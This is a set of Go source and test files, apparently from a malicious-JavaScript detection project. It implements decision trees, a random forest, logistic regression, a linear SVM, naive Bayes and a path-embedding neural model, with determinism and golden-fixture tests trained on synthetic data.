	if depth >= b.maxDepth || len(idx) < 2*b.minLeaf || pos == 0 || pos == len(idx) {
		return &treeNode{leaf: true, label: prob >= 0.5, prob: prob}
	}
	feat, thresh, gain := b.bestSplit(idx)
	if feat < 0 || gain <= 1e-12 {
		return &treeNode{leaf: true, label: prob >= 0.5, prob: prob}
	}
	if b.importance != nil {
		b.importance[feat] += gain * float64(len(idx))
	}
	var left, right []int
	for _, i := range idx {
		if b.features[i][feat] <= thresh {
			left = append(left, i)
		} else {
			right = append(right, i)
		}
	}
	if len(left) < b.minLeaf || len(right) < b.minLeaf {
		return &treeNode{leaf: true, label: prob >= 0.5, prob: prob}
	}
	return &treeNode{
		feature:   feat,
		threshold: thresh,
		left:      b.build(left, depth+1),
		right:     b.build(right, depth+1),
	}
}

// bestSplit finds the feature/threshold pair with the highest Gini gain.
func (b *treeBuilder) bestSplit(idx []int) (feature int, threshold, gain float64) {
	nFeatures := len(b.features[idx[0]])
	candidates := make([]int, 0, nFeatures)
	if b.subset > 0 && b.subset < nFeatures && b.rng != nil {
		perm := b.rng.Perm(nFeatures)
		candidates = append(candidates, perm[:b.subset]...)
	} else {
		for f := 0; f < nFeatures; f++ {
			candidates = append(candidates, f)
		}
	}
	sort.Ints(candidates)

	parentGini := giniOf(b.labels, idx)
	bestFeat, bestThresh, bestGain := -1, 0.0, 0.0

	type fv struct {
		v   float64
		pos bool
	}
	vals := make([]fv, len(idx))
	for _, f := range candidates {
		for j, i := range idx {
			vals[j] = fv{b.features[i][f], b.labels[i]}
		}
		sort.Slice(vals, func(a, c int) bool { return vals[a].v < vals[c].v })
		totalPos := 0
		for _, v := range vals {
			if v.pos {
				totalPos++
			}
		}
		leftPos := 0
		n := len(vals)
		for j := 0; j < n-1; j++ {
			if vals[j].pos {
				leftPos++
			}
			if vals[j].v == vals[j+1].v {
				continue
			}
			nl, nr := j+1, n-j-1
			gl := giniBinary(leftPos, nl)
			gr := giniBinary(totalPos-leftPos, nr)
			weighted := (float64(nl)*gl + float64(nr)*gr) / float64(n)
			g := parentGini - weighted
			if g > bestGain {
				bestGain = g
				bestFeat = f
				bestThresh = (vals[j].v + vals[j+1].v) / 2
			}
		}
	}
	return bestFeat, bestThresh, bestGain
}

func giniOf(labels []bool, idx []int) float64 {
	pos := 0
	for _, i := range idx {
		if labels[i] {
			pos++
		}
	}
	return giniBinary(pos, len(idx))
}

func giniBinary(pos, n int) float64 {
	if n == 0 {
		return 0
	}
	p := float64(pos) / float64(n)
	return 2 * p * (1 - p)
}

// ---------------------------------------------------------------------------
// Random forest
// ---------------------------------------------------------------------------

// RandomForest is a bagged ensemble of CART trees with feature subsetting.
type RandomForest struct {
	trees      []*DecisionTree
	importance []float64
}

// RandomForestTrainer configures forest training.
type RandomForestTrainer struct {
	// Trees is the ensemble size; 0 means 60.
	Trees int
	// MaxDepth per tree; 0 means 12.
	MaxDepth int
	// Seed drives bootstrap sampling and feature subsetting.
	Seed int64
}

// Name implements Trainer.
func (*RandomForestTrainer) Name() string { return "RandomForest" }

// Name implements Classifier.
func (*RandomForest) Name() string { return "RandomForest" }

// Train implements Trainer.
func (t *RandomForestTrainer) Train(features [][]float64, labels []bool) (Classifier, error) {
	if len(features) == 0 || len(features) != len(labels) {
		return nil, ErrNoData
	}
	nTrees := t.Trees
	if nTrees <= 0 {
		nTrees = 60
	}
	maxDepth := t.MaxDepth
	if maxDepth <= 0 {
		maxDepth = 12
	}
	nFeatures := len(features[0])
	subset := int(math.Sqrt(float64(nFeatures)))
	if subset < 1 {
		subset = 1
	}
	rng := rand.New(rand.NewSource(t.Seed))
	forest := &RandomForest{importance: make([]float64, nFeatures)}
	n := len(features)
	for ti := 0; ti < nTrees; ti++ {
		// Bootstrap sample.
		idx := make([]int, n)
		for i := range idx {
			idx[i] = rng.Intn(n)
		}
		bootF := make([][]float64, n)
		bootL := make([]bool, n)
		for i, j := range idx {
			bootF[i] = features[j]
			bootL[i] = labels[j]
		}
		b := &treeBuilder{
			features:   bootF,
			labels:     bootL,
			maxDepth:   maxDepth,
			minLeaf:    2,
			subset:     subset,
			rng:        rand.New(rand.NewSource(t.Seed + int64(ti)*977 + 13)),
			importance: make([]float64, nFeatures),
		}
		all := make([]int, n)
		for i := range all {
			all[i] = i
		}
		tree := &DecisionTree{root: b.build(all, 0)}
		forest.trees = append(forest.trees, tree)
		for f, imp := range b.importance {
			forest.importance[f] += imp
		}
	}
	// Normalize importances to sum to one.
	total := 0.0
	for _, v := range forest.importance {
		total += v
	}
	if total > 0 {
		for i := range forest.importance {
			forest.importance[i] /= total
		}
	}
	return forest, nil
}

// Predict implements Classifier by majority vote over trees.
func (f *RandomForest) Predict(features []float64) bool {
	return f.PredictProb(features) >= 0.5
}

// PredictProb averages the per-tree leaf probabilities.
func (f *RandomForest) PredictProb(features []float64) float64 {
	if len(f.trees) == 0 {
		return 0
	}
	sum := 0.0
	for _, t := range f.trees {
		sum += t.PredictProb(features)
	}
	return sum / float64(len(f.trees))
}

// FeatureImportances returns normalized Gini importances per feature, the
// signal behind the paper's Table VII interpretability analysis.
func (f *RandomForest) FeatureImportances() []float64 {
	out := make([]float64, len(f.importance))
	copy(out, f.importance)
	return out
}
