package classify

import (
	"math"
	"math/rand"
)

// ---------------------------------------------------------------------------
// Logistic regression
// ---------------------------------------------------------------------------

// LogisticRegression is an L2-regularized logistic model trained by SGD.
type LogisticRegression struct {
	weights []float64
	bias    float64
}

// LogisticRegressionTrainer configures training.
type LogisticRegressionTrainer struct {
	// Epochs of SGD; 0 means 60.
	Epochs int
	// LearningRate; 0 means 0.1.
	LearningRate float64
	// L2 regularization strength; 0 disables.
	L2 float64
	// Seed drives shuffling.
	Seed int64
}

// Name implements Trainer.
func (*LogisticRegressionTrainer) Name() string { return "LogisticRegression" }

// Name implements Classifier.
func (*LogisticRegression) Name() string { return "LogisticRegression" }

// Train implements Trainer.
func (t *LogisticRegressionTrainer) Train(features [][]float64, labels []bool) (Classifier, error) {
	if len(features) == 0 || len(features) != len(labels) {
		return nil, ErrNoData
	}
	epochs := t.Epochs
	if epochs <= 0 {
		epochs = 60
	}
	lr := t.LearningRate
	if lr <= 0 {
		lr = 0.1
	}
	dim := len(features[0])
	m := &LogisticRegression{weights: make([]float64, dim)}
	rng := rand.New(rand.NewSource(t.Seed))
	order := rng.Perm(len(features))
	for e := 0; e < epochs; e++ {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		for _, i := range order {
			x := features[i]
			y := 0.0
			if labels[i] {
				y = 1.0
			}
			p := sigmoid(dot(m.weights, x) + m.bias)
			g := p - y
			for j := range m.weights {
				m.weights[j] -= lr * (g*x[j] + t.L2*m.weights[j])
			}
			m.bias -= lr * g
		}
	}
	return m, nil
}

// Predict implements Classifier.
func (m *LogisticRegression) Predict(features []float64) bool {
	return sigmoid(dot(m.weights, features)+m.bias) >= 0.5
}

// ---------------------------------------------------------------------------
// Linear SVM (hinge loss, SGD / Pegasos style)
// ---------------------------------------------------------------------------

// LinearSVM is a linear support vector machine trained with subgradient
// descent on the hinge loss.
type LinearSVM struct {
	weights []float64
	bias    float64
}

// LinearSVMTrainer configures training.
type LinearSVMTrainer struct {
	// Epochs; 0 means 60.
	Epochs int
	// Lambda is the regularization strength; 0 means 1e-3.
	Lambda float64
	// Seed drives shuffling.
	Seed int64
}

// Name implements Trainer.
func (*LinearSVMTrainer) Name() string { return "SVM" }

// Name implements Classifier.
func (*LinearSVM) Name() string { return "SVM" }

// Train implements Trainer.
func (t *LinearSVMTrainer) Train(features [][]float64, labels []bool) (Classifier, error) {
	if len(features) == 0 || len(features) != len(labels) {
		return nil, ErrNoData
	}
	epochs := t.Epochs
	if epochs <= 0 {
		epochs = 60
	}
	lambda := t.Lambda
	if lambda <= 0 {
		lambda = 1e-3
	}
	dim := len(features[0])
	m := &LinearSVM{weights: make([]float64, dim)}
	rng := rand.New(rand.NewSource(t.Seed))
	order := rng.Perm(len(features))
	step := 0
	for e := 0; e < epochs; e++ {
		rng.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
		for _, i := range order {
			step++
			lr := 1 / (lambda * float64(step))
			x := features[i]
			y := -1.0
			if labels[i] {
				y = 1.0
			}
			margin := y * (dot(m.weights, x) + m.bias)
			for j := range m.weights {
				m.weights[j] *= 1 - lr*lambda
			}
			if margin < 1 {
				for j := range m.weights {
					m.weights[j] += lr * y * x[j]
				}
				m.bias += lr * y
			}
		}
	}
	return m, nil
}

// Predict implements Classifier.
func (m *LinearSVM) Predict(features []float64) bool {
	return dot(m.weights, features)+m.bias >= 0
}

// ---------------------------------------------------------------------------
// Gaussian naive Bayes
// ---------------------------------------------------------------------------

// GaussianNB models each feature per class as an independent Gaussian.
type GaussianNB struct {
	mean  [2][]float64
	vari  [2][]float64
	prior [2]float64
}

// GaussianNBTrainer configures training (no hyper-parameters).
type GaussianNBTrainer struct{}

// Name implements Trainer.
func (*GaussianNBTrainer) Name() string { return "GaussianNB" }

// Name implements Classifier.
func (*GaussianNB) Name() string { return "GaussianNB" }

// Train implements Trainer.
func (t *GaussianNBTrainer) Train(features [][]float64, labels []bool) (Classifier, error) {
	if len(features) == 0 || len(features) != len(labels) {
		return nil, ErrNoData
	}
	dim := len(features[0])
	m := &GaussianNB{}
	var counts [2]int
	for c := 0; c < 2; c++ {
		m.mean[c] = make([]float64, dim)
		m.vari[c] = make([]float64, dim)
	}
	for i, x := range features {
		c := 0
		if labels[i] {
			c = 1
		}
		counts[c]++
		for j, v := range x {
			m.mean[c][j] += v
		}
	}
	for c := 0; c < 2; c++ {
		if counts[c] == 0 {
			continue
		}
		for j := range m.mean[c] {
			m.mean[c][j] /= float64(counts[c])
		}
	}
	for i, x := range features {
		c := 0
		if labels[i] {
			c = 1
		}
		for j, v := range x {
			d := v - m.mean[c][j]
			m.vari[c][j] += d * d
		}
	}
	const eps = 1e-9
	for c := 0; c < 2; c++ {
		if counts[c] == 0 {
			m.prior[c] = eps
			continue
		}
		for j := range m.vari[c] {
			m.vari[c][j] = m.vari[c][j]/float64(counts[c]) + eps
		}
		m.prior[c] = float64(counts[c]) / float64(len(features))
	}
	return m, nil
}

// Predict implements Classifier.
func (m *GaussianNB) Predict(features []float64) bool {
	var logp [2]float64
	for c := 0; c < 2; c++ {
		// A class absent from training (prior at the epsilon floor) can
		// never win: its variance entries were never populated.
		if m.mean[c] == nil || m.prior[c] <= 1e-9 {
			logp[c] = math.Inf(-1)
			continue
		}
		logp[c] = math.Log(m.prior[c])
		for j, v := range features {
			if j >= len(m.mean[c]) {
				break
			}
			d := v - m.mean[c][j]
			logp[c] += -0.5*math.Log(2*math.Pi*m.vari[c][j]) - d*d/(2*m.vari[c][j])
		}
	}
	return logp[1] > logp[0]
}

// ---------------------------------------------------------------------------
// helpers
// ---------------------------------------------------------------------------

func sigmoid(x float64) float64 { return 1 / (1 + math.Exp(-x)) }

func dot(a, b []float64) float64 {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	s := 0.0
	for i := 0; i < n; i++ {
		s += a[i] * b[i]
	}
	return s
}
