package nn

import (
	"context"
	"math"

	"jsrevealer/internal/ml/linalg"
	"jsrevealer/internal/par"
)

// This file implements the BatchSize > 1 pre-training regime: minibatch SGD
// with gradient accumulation. Per-sample gradients inside a batch are
// computed concurrently against the parameters frozen at batch start, then
// applied strictly in sample order. The split makes the parallelism purely
// a wall-clock knob — float operations happen in the same order regardless
// of TrainWorkers, so the fit is bit-reproducible at any worker count.

// rowGrad is the gradient contribution of one (path, slot) pair to one
// embedding row, weight decay already folded in at the frozen parameters.
type rowGrad struct {
	slot, idx int
	g         []float64
}

// sampleGrad is one sample's full gradient, computed against frozen
// parameters. Buffers are reused across batches via grow.
type sampleGrad struct {
	loss  float64
	empty bool // no paths: loss only, no update (mirrors step)
	dClsW [2][]float64
	dClsB [2]float64
	dAttn []float64
	rows  []rowGrad
	nRows int
}

// grow sizes the gradient buffers for dimension dim and up to rows row
// contributions, reusing prior allocations where possible.
func (g *sampleGrad) grow(dim, rows int) {
	if cap(g.dAttn) < dim {
		g.dAttn = make([]float64, dim)
		g.dClsW[0] = make([]float64, dim)
		g.dClsW[1] = make([]float64, dim)
	}
	g.dAttn = g.dAttn[:dim]
	g.dClsW[0], g.dClsW[1] = g.dClsW[0][:dim], g.dClsW[1][:dim]
	if cap(g.rows) < rows {
		next := make([]rowGrad, rows)
		copy(next, g.rows[:cap(g.rows)])
		g.rows = next
	}
	g.rows = g.rows[:rows]
	for i := range g.rows {
		if cap(g.rows[i].g) < dim {
			g.rows[i].g = make([]float64, dim)
		}
		g.rows[i].g = g.rows[i].g[:dim]
	}
}

// epochMinibatch runs one epoch in batches of cfg.BatchSize over the
// (already shuffled) order, returning the summed loss.
func (m *Model) epochMinibatch(ctx context.Context, samples []Sample, order []int) (float64, error) {
	b := m.cfg.BatchSize
	workers := m.cfg.TrainWorkers
	if workers <= 0 {
		workers = 1
	}
	grads := make([]sampleGrad, b)
	total := 0.0
	for start := 0; start < len(order); start += b {
		if err := ctx.Err(); err != nil {
			return total, err
		}
		end := start + b
		if end > len(order) {
			end = len(order)
		}
		n := end - start
		par.For(workers, n, func(j int) {
			s := samples[order[start+j]]
			sc := m.getScratch(len(s.Keys))
			m.gradient(s, sc, &grads[j])
			m.putScratch(sc)
		})
		// Apply in sample order — the only place parameters change.
		for j := 0; j < n; j++ {
			total += grads[j].loss
			m.apply(&grads[j])
		}
	}
	return total, nil
}

// gradient computes one sample's loss and gradient into out without
// touching model parameters. It mirrors step's math exactly, except that
// every read (classifier rows, attention, embedding rows, weight decay)
// sees the frozen batch-start parameters.
func (m *Model) gradient(s Sample, sc *scratch, out *sampleGrad) {
	m.forward(s.Keys, sc)
	label := 0
	if s.Malicious {
		label = 1
	}
	out.loss = -math.Log(math.Max(sc.probs[label], 1e-12))
	out.empty = len(s.Keys) == 0
	out.nRows = 0
	if out.empty {
		return
	}
	out.grow(m.cfg.Dim, 3*len(s.Keys))

	var dlogits [2]float64
	dlogits[0] = sc.probs[0]
	dlogits[1] = sc.probs[1]
	dlogits[label] -= 1

	dv := sc.dv
	linalg.Zero(dv)
	for c := 0; c < 2; c++ {
		for j := range out.dClsW[c] {
			out.dClsW[c][j] = dlogits[c] * sc.agg[j]
		}
		out.dClsB[c] = dlogits[c]
		linalg.AXPYInPlace(dv, dlogits[c], m.clsW[c])
	}

	dalpha := sc.dalpha
	for i, v := range sc.vecs {
		dalpha[i] = linalg.Dot(dv, v)
	}
	meanD := 0.0
	for i := range dalpha {
		meanD += sc.weights[i] * dalpha[i]
	}
	linalg.Zero(out.dAttn)
	for i, v := range sc.vecs {
		ds := sc.weights[i] * (dalpha[i] - meanD)
		dp := sc.dp
		linalg.Zero(dp)
		linalg.AXPYInPlace(dp, sc.weights[i], dv)
		linalg.AXPYInPlace(dp, ds, m.attn)
		linalg.AXPYInPlace(out.dAttn, ds, v)
		key := sc.keys[i]
		for slot, rowIdx := range [3]int{key.Src, key.Struct, key.Tgt} {
			row := m.rowFor(slot, rowIdx)
			rg := &out.rows[out.nRows]
			out.nRows++
			rg.slot, rg.idx = slot, rowIdx
			for j := range rg.g {
				rg.g[j] = dp[j]*(1-v[j]*v[j]) + m.cfg.WeightDecay*row[j]
			}
		}
	}
}

// apply performs the SGD update for one accumulated gradient. Row gradients
// are resolved through rowFor again so shared UNK rows accumulate exactly
// like repeated touches do in the serial path.
func (m *Model) apply(g *sampleGrad) {
	if g.empty {
		return
	}
	lr := m.cfg.LearningRate
	for c := 0; c < 2; c++ {
		linalg.AXPYInPlace(m.clsW[c], -lr, g.dClsW[c])
		m.clsB[c] -= lr * g.dClsB[c]
	}
	for r := 0; r < g.nRows; r++ {
		rg := &g.rows[r]
		linalg.AXPYInPlace(m.rowFor(rg.slot, rg.idx), -lr, rg.g)
	}
	linalg.AXPYInPlace(m.attn, -lr, g.dAttn)
}
