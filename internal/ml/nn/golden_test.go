package nn

import (
	"encoding/json"
	"fmt"
	"math"
	"math/rand"
	"os"
	"path/filepath"
	"testing"
)

// The golden fixture pins the model's numerical behaviour across internal
// refactors: a model serialized before the flat-buffer workspace rework must
// load and produce bit-identical PredictProb output afterwards. Regenerate
// (only when the model's math is *intentionally* changed) with:
//
//	NN_WRITE_GOLDEN=1 go test -run TestGoldenPredictProbStability ./internal/ml/nn/
const (
	goldenModelPath = "testdata/model_v1.json"
	goldenProbsPath = "testdata/golden_probs_v1.json"
)

// goldenProbe is one recorded probe: a key set and the exact bits of the
// probability the fixture model assigned to it.
type goldenProbe struct {
	Keys []PathKey `json:"keys"`
	// ProbBits is math.Float64bits of PredictProb, rendered in hex so the
	// comparison is exact (JSON float round-trips are not).
	ProbBits string `json:"probBits"`
}

// goldenKeySets builds a deterministic battery of probes: empty input,
// single paths, dense scripts, and out-of-vocabulary components.
func goldenKeySets(cfg Config) [][]PathKey {
	rng := rand.New(rand.NewSource(99))
	sets := [][]PathKey{
		nil,
		{{Src: 1, Struct: 31, Tgt: 61}},
		{{Src: 500, Struct: 501, Tgt: 502}}, // likely OOV -> UNK rows
	}
	for n := 0; n < 8; n++ {
		keys := make([]PathKey, 5+rng.Intn(40))
		for j := range keys {
			keys[j] = PathKey{
				Src:    rng.Intn(cfg.VocabSize),
				Struct: rng.Intn(cfg.VocabSize),
				Tgt:    rng.Intn(cfg.VocabSize),
			}
		}
		sets = append(sets, keys)
	}
	return sets
}

func TestGoldenPredictProbStability(t *testing.T) {
	cfg := smallConfig()
	if os.Getenv("NN_WRITE_GOLDEN") != "" {
		writeGolden(t, cfg)
	}
	data, err := os.ReadFile(goldenModelPath)
	if err != nil {
		t.Fatalf("golden model missing (regenerate with NN_WRITE_GOLDEN=1): %v", err)
	}
	var m Model
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatalf("golden model unmarshal: %v", err)
	}
	probData, err := os.ReadFile(goldenProbsPath)
	if err != nil {
		t.Fatalf("golden probs missing: %v", err)
	}
	var probes []goldenProbe
	if err := json.Unmarshal(probData, &probes); err != nil {
		t.Fatalf("golden probs unmarshal: %v", err)
	}
	if len(probes) == 0 {
		t.Fatal("golden probe file is empty")
	}
	for i, p := range probes {
		got := math.Float64bits(m.PredictProb(p.Keys))
		if want := fmt.Sprintf("%016x", got); want != p.ProbBits {
			t.Errorf("probe %d (%d keys): PredictProb bits %s, golden %s",
				i, len(p.Keys), want, p.ProbBits)
		}
	}
}

// writeGolden trains the fixture model and records the probe outputs.
func writeGolden(t *testing.T, cfg Config) {
	t.Helper()
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	m.Train(syntheticSamples(cfg, 80, 42))
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(filepath.Dir(goldenModelPath), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(goldenModelPath, data, 0o644); err != nil {
		t.Fatal(err)
	}
	var probes []goldenProbe
	for _, keys := range goldenKeySets(cfg) {
		probes = append(probes, goldenProbe{
			Keys:     keys,
			ProbBits: fmt.Sprintf("%016x", math.Float64bits(m.PredictProb(keys))),
		})
	}
	probData, err := json.MarshalIndent(probes, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(goldenProbsPath, append(probData, '\n'), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("golden fixtures regenerated under testdata/")
}
