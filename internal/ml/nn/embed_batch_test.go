package nn

import (
	"encoding/json"
	"math"
	"os"
	"testing"
)

// TestEmbedBatchGolden pins EmbedBatch's bit-identity contract against the
// serialized golden fixture model: batching scripts together must change
// nothing about any script's embeddings — every vector element and every
// attention weight compares equal at the math.Float64bits level to what the
// per-script Embed produces.
func TestEmbedBatchGolden(t *testing.T) {
	data, err := os.ReadFile(goldenModelPath)
	if err != nil {
		t.Fatalf("golden model missing (regenerate with NN_WRITE_GOLDEN=1): %v", err)
	}
	var m Model
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	sets := goldenKeySets(m.Config())
	batch := m.EmbedBatch(sets)
	if len(batch) != len(sets) {
		t.Fatalf("batch returned %d scripts, want %d", len(batch), len(sets))
	}
	for si, keys := range sets {
		want := m.Embed(keys)
		got := batch[si]
		if len(got) != len(want) {
			t.Fatalf("script %d: %d embeddings, want %d", si, len(got), len(want))
		}
		for i := range want {
			if gb, wb := math.Float64bits(got[i].Weight), math.Float64bits(want[i].Weight); gb != wb {
				t.Errorf("script %d path %d: weight bits %016x, want %016x", si, i, gb, wb)
			}
			if len(got[i].Vector) != len(want[i].Vector) {
				t.Fatalf("script %d path %d: vector dim %d, want %d", si, i, len(got[i].Vector), len(want[i].Vector))
			}
			for j := range want[i].Vector {
				if gb, wb := math.Float64bits(got[i].Vector[j]), math.Float64bits(want[i].Vector[j]); gb != wb {
					t.Errorf("script %d path %d dim %d: bits %016x, want %016x", si, i, j, gb, wb)
				}
			}
		}
	}
}

// TestEmbedBatchFreshModel repeats the identity check on a freshly trained
// model (exercising known/UNK routing from this training run, not the
// fixture's) and checks the edge shapes: empty batch, empty key sets.
func TestEmbedBatchFreshModel(t *testing.T) {
	cfg := smallConfig()
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	m.Train(syntheticSamples(cfg, 40, 7))

	if out := m.EmbedBatch(nil); len(out) != 0 {
		t.Errorf("empty batch returned %d scripts", len(out))
	}
	sets := [][]PathKey{nil, {}, goldenKeySets(cfg)[4], nil, goldenKeySets(cfg)[5]}
	batch := m.EmbedBatch(sets)
	for si, keys := range sets {
		if len(batch[si]) != len(keys) {
			t.Fatalf("script %d: %d embeddings, want %d", si, len(batch[si]), len(keys))
		}
		want := m.Embed(keys)
		for i := range want {
			if batch[si][i].Weight != want[i].Weight {
				t.Errorf("script %d path %d weight mismatch", si, i)
			}
			for j := range want[i].Vector {
				if batch[si][i].Vector[j] != want[i].Vector[j] {
					t.Errorf("script %d path %d dim %d mismatch", si, i, j)
				}
			}
		}
	}
}

// TestEmbedBatchOutputOwnership: results must stay valid after further model
// use — they cannot alias the pooled scratch.
func TestEmbedBatchOutputOwnership(t *testing.T) {
	cfg := smallConfig()
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	m.Train(syntheticSamples(cfg, 40, 7))
	keys := goldenKeySets(cfg)[6]
	batch := m.EmbedBatch([][]PathKey{keys})
	snapshot := make([]float64, len(batch[0][0].Vector))
	copy(snapshot, batch[0][0].Vector)
	// Churn the pool with different inputs.
	for i := 0; i < 10; i++ {
		m.Embed(goldenKeySets(cfg)[3+i%5])
		m.EmbedBatch([][]PathKey{goldenKeySets(cfg)[7], keys[:3]})
	}
	for j, v := range snapshot {
		if batch[0][0].Vector[j] != v {
			t.Fatalf("dim %d mutated after pool reuse: %v -> %v", j, v, batch[0][0].Vector[j])
		}
	}
}
