package nn

import (
	"encoding/json"
	"fmt"
	"math"
	"math/rand"
	"sync"
	"testing"
)

// syntheticSamples builds a learnable task: malicious scripts draw path
// keys from one half of the vocabulary, benign from the other, with
// overlap noise.
func syntheticSamples(cfg Config, n int, seed int64) []Sample {
	rng := rand.New(rand.NewSource(seed))
	half := cfg.VocabSize / 2
	out := make([]Sample, 0, n)
	for i := 0; i < n; i++ {
		malicious := i%2 == 1
		keys := make([]PathKey, 10+rng.Intn(10))
		for j := range keys {
			base := 0
			if malicious {
				base = half
			}
			// Keep indices in a modest range so MinCount is satisfied.
			keys[j] = PathKey{
				Src:    base + rng.Intn(30),
				Struct: base + 30 + rng.Intn(30),
				Tgt:    base + 60 + rng.Intn(30),
			}
		}
		out = append(out, Sample{Keys: keys, Malicious: malicious})
	}
	return out
}

func smallConfig() Config {
	cfg := DefaultConfig()
	cfg.VocabSize = 512
	cfg.Dim = 16
	cfg.Epochs = 15
	return cfg
}

func TestNewModelValidation(t *testing.T) {
	if _, err := NewModel(Config{}); err == nil {
		t.Error("zero config should be rejected")
	}
	if _, err := NewModel(Config{VocabSize: 10, Dim: -1}); err == nil {
		t.Error("negative dim should be rejected")
	}
}

func TestTrainingLearnsSeparableTask(t *testing.T) {
	cfg := smallConfig()
	m, err := NewModel(cfg)
	if err != nil {
		t.Fatal(err)
	}
	train := syntheticSamples(cfg, 120, 1)
	loss := m.Train(train)
	if loss > 0.4 {
		t.Errorf("final loss = %v, model failed to learn", loss)
	}
	test := syntheticSamples(cfg, 60, 2)
	correct := 0
	for _, s := range test {
		if (m.PredictProb(s.Keys) >= 0.5) == s.Malicious {
			correct++
		}
	}
	if acc := float64(correct) / float64(len(test)); acc < 0.9 {
		t.Errorf("test accuracy = %.2f", acc)
	}
}

func TestTrainingDeterministicForSeed(t *testing.T) {
	cfg := smallConfig()
	run := func() []Embedding {
		m, err := NewModel(cfg)
		if err != nil {
			t.Fatal(err)
		}
		m.Train(syntheticSamples(cfg, 50, 3))
		return m.Embed([]PathKey{{Src: 1, Struct: 31, Tgt: 61}})
	}
	e1, e2 := run(), run()
	for j := range e1[0].Vector {
		if e1[0].Vector[j] != e2[0].Vector[j] {
			t.Fatal("training not deterministic for a fixed seed")
		}
	}
}

func TestAttentionWeightsSumToOne(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 40, 4))
	keys := syntheticSamples(cfg, 1, 5)[0].Keys
	embs := m.Embed(keys)
	if len(embs) != len(keys) {
		t.Fatalf("embeddings = %d, want %d", len(embs), len(keys))
	}
	sum := 0.0
	for _, e := range embs {
		if e.Weight < 0 || e.Weight > 1 {
			t.Errorf("weight %v out of range", e.Weight)
		}
		if len(e.Vector) != cfg.Dim {
			t.Errorf("vector dim = %d", len(e.Vector))
		}
		sum += e.Weight
	}
	if math.Abs(sum-1) > 1e-9 {
		t.Errorf("weights sum = %v, want 1", sum)
	}
}

func TestEmptyScript(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 20, 6))
	if embs := m.Embed(nil); len(embs) != 0 {
		t.Error("empty script should embed to nothing")
	}
	p := m.PredictProb(nil)
	if p < 0 || p > 1 {
		t.Errorf("empty-script probability = %v", p)
	}
}

func TestSharedComponentsGiveCloserVectors(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 60, 7))
	base := PathKey{Src: 5, Struct: 40, Tgt: 70}
	sameStruct := PathKey{Src: 6, Struct: 40, Tgt: 71}
	different := PathKey{Src: 300, Struct: 330, Tgt: 360}
	embs := m.Embed([]PathKey{base, sameStruct, different})
	dShared := dist(embs[0].Vector, embs[1].Vector)
	dOther := dist(embs[0].Vector, embs[2].Vector)
	if dShared >= dOther {
		t.Errorf("shared-structure distance %v >= unrelated distance %v", dShared, dOther)
	}
}

func dist(a, b []float64) float64 {
	s := 0.0
	for i := range a {
		d := a[i] - b[i]
		s += d * d
	}
	return math.Sqrt(s)
}

func TestOOVComponentsShareUnkRow(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 60, 8))
	// Two keys with the same structure but never-seen values must embed
	// identically: both value slots resolve to the UNK rows.
	k1 := PathKey{Src: 400, Struct: 40, Tgt: 450}
	k2 := PathKey{Src: 401, Struct: 40, Tgt: 451}
	embs := m.Embed([]PathKey{k1, k2})
	for j := range embs[0].Vector {
		if embs[0].Vector[j] != embs[1].Vector[j] {
			t.Fatal("OOV values should share the UNK embedding")
		}
	}
}

func TestKeyOfBucketsWithinVocab(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	key := m.KeyOf(123456789, 987654321, 1<<63)
	for _, idx := range []int{key.Src, key.Struct, key.Tgt} {
		if idx < 0 || idx >= cfg.VocabSize {
			t.Errorf("bucket %d out of range", idx)
		}
	}
}

func TestSerializationRoundTrip(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 40, 9))
	data, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	var restored Model
	if err := json.Unmarshal(data, &restored); err != nil {
		t.Fatal(err)
	}
	keys := syntheticSamples(cfg, 1, 10)[0].Keys
	e1 := m.Embed(keys)
	e2 := restored.Embed(keys)
	for i := range e1 {
		if math.Abs(e1[i].Weight-e2[i].Weight) > 1e-12 {
			t.Fatal("weights differ after round trip")
		}
		for j := range e1[i].Vector {
			if e1[i].Vector[j] != e2[i].Vector[j] {
				t.Fatal("vectors differ after round trip")
			}
		}
	}
}

// TestEmbedReturnsIndependentCopies guards the pooled-workspace contract:
// returned embeddings must not alias the model's internal forward buffers,
// so neither a later Embed call nor mutation of one embedding may corrupt
// another.
func TestEmbedReturnsIndependentCopies(t *testing.T) {
	cfg := smallConfig()
	m, _ := NewModel(cfg)
	m.Train(syntheticSamples(cfg, 40, 12))
	keysA := syntheticSamples(cfg, 1, 13)[0].Keys
	keysB := syntheticSamples(cfg, 1, 14)[0].Keys

	embsA := m.Embed(keysA)
	wantA := make([][]float64, len(embsA))
	for i, e := range embsA {
		wantA[i] = append([]float64(nil), e.Vector...)
	}

	// A second Embed reuses the pooled scratch; the first result must be
	// unaffected.
	_ = m.Embed(keysB)
	for i, e := range embsA {
		for j := range e.Vector {
			if e.Vector[j] != wantA[i][j] {
				t.Fatalf("embedding %d corrupted by a subsequent Embed call", i)
			}
		}
	}

	// Mutating one embedding must not leak into its neighbours.
	for j := range embsA[0].Vector {
		embsA[0].Vector[j] = math.Inf(1)
	}
	for i := 1; i < len(embsA); i++ {
		for j := range embsA[i].Vector {
			if embsA[i].Vector[j] != wantA[i][j] {
				t.Fatalf("mutating embedding 0 corrupted embedding %d", i)
			}
		}
	}
}

